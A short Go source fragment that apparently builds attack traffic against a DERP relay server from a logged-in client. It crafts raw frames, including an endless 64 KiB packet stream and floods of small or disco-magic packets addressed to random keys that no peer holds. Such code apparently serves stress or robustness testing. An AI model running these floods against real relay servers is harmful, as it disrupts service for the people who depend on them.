// Attacks with DERP frames, by a client that has logged in.

package main

import (
	"crypto/rand"
	"encoding/binary"
)

const (
	frameWatchConns = 0x10
	frameUnknown    = 0x7f
	discoMagic      = "TS\xf0\x9f\x92\xac"
	discoSize       = 6 + keyLength + nonceSize + 16
	smallPacket     = 40
)

func frameOf(kind byte, length int) []byte {
	frame := binary.BigEndian.AppendUint32([]byte{kind}, uint32(length))
	return append(frame, make([]byte, length)...)
}

func packetTo(to, packet []byte) []byte {
	frame := binary.BigEndian.AppendUint32([]byte{frameSendPacket}, uint32(keyLength+len(packet)))
	return append(append(frame, to...), packet...)
}

// packets is one of 64 KiB to nobody, which never ends.
func packets() func() byte {
	begin := binary.BigEndian.AppendUint32([]byte{frameSendPacket}, keyLength+maxPacket)
	return endless(string(begin), 'a')
}

// toNobody sends small packets, each to another key that nobody has.
func toNobody(magic []byte) maker {
	size := smallPacket
	if magic != nil {
		size = discoSize
	}
	packet := make([]byte, size)
	copy(packet, magic)
	return func(c *client) func([]byte) []byte {
		return func(buf []byte) []byte {
			var frames []byte
			for len(frames)+overhead+size <= recordOf {
				var to key
				_, _ = rand.Read(to[:])
				frames = append(frames, packetTo(to[:], packet)...)
			}
			return c.wrap(buf, frames)
		}
	}
}
